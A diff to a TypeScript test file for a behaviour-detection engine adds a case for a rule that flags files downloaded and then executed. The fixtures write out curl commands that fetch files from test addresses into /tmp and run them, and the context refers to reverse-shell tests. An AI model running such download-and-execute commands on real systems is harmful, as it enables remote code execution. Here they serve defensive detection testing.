@@ -2,8 +2,8 @@ import { type Event, type EventCategory, type EventFields, RuleFacts } from '@ya
 import { describe, expect, test } from 'vitest';
 import { eventOf } from '../../../../test/fakes/detections.ts';
 import { machine } from '../../../../test/fakes/process-tree.ts';
-import { BEHAVIOUR_RULES } from './behaviour-rules.ts';
 import type { BehaviourOptions } from './behaviour.ts';
+import { BEHAVIOUR_RULES } from './behaviour-rules.ts';
 import { createBehaviourEvaluator } from './create-behaviour-evaluator.ts';
 
 const HASH = 'ab'.repeat(32);
@@ -124,6 +124,19 @@ describe('reverse shell', () => {
 });
 
 describe('fetched, then executed', () => {
+  test('the start is reported a moment before the writing that came first', () => {
+    const { run, write, evaluator, tree, clock, alice } = setup();
+    const curl = tree.add(300, alice, '/usr/bin/curl', { commandLine: 'curl -o /tmp/late http://192.0.2.1/late' });
+    expect(run(301, alice, '/tmp/late')).toEqual([]);
+    clock.time += 30;
+    expect(write(curl, '/tmp/late')).toEqual(['fetched-then-executed']);
+    // Later than sensors can confuse, it is another download of a file that was run before.
+    expect(run(302, alice, '/tmp/older')).toEqual([]);
+    clock.time += 3_000;
+    expect(write(curl, '/tmp/older')).toEqual([]);
+    expect(evaluator.evaluate(eventOf('file_event', tree.get(curl), { TargetFilename: '/tmp/older' }))).toEqual([]);
+  });
+
   test('from a bare address, directly and through an interpreter', () => {
     const { run, write, alice } = setup();
     run(300, alice, '/usr/bin/curl', 'curl -s http://127.0.0.1:8000/x -o /tmp/x');
